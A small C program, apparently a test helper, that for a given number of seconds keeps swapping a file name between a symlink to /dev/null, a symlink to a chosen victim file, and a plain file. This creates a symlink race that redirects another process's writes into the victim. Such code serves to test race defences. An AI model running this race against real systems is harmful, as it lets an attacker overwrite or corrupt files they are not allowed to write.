// SPDX-License-Identifier: GPL-2.0-only
/*
 * One who may write in a directory, and wants who writes a file there to write into
 * another one.
 *
 * usage: swap FILE VICTIM SECONDS
 *
 * FILE is by turns a link to a device, a link to VICTIM, and a plain file.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static void put(const char *file, const char *path)
{
	char name[512];

	snprintf(name, sizeof(name), "%s.swap", file);
	unlink(name);
	if (!path)
		close(open(name, O_WRONLY | O_CREAT, 0644));
	else if (symlink(path, name))
		exit(2);
	rename(name, file);
}

int main(int argc, char **argv)
{
	time_t end;

	if (argc != 4) {
		fprintf(stderr, "usage: swap FILE VICTIM SECONDS\n");
		return 2;
	}
	for (end = time(NULL) + atoi(argv[3]); time(NULL) < end;) {
		put(argv[1], "/dev/null");
		put(argv[1], argv[2]);
		put(argv[1], NULL);
	}
	return 0;
}
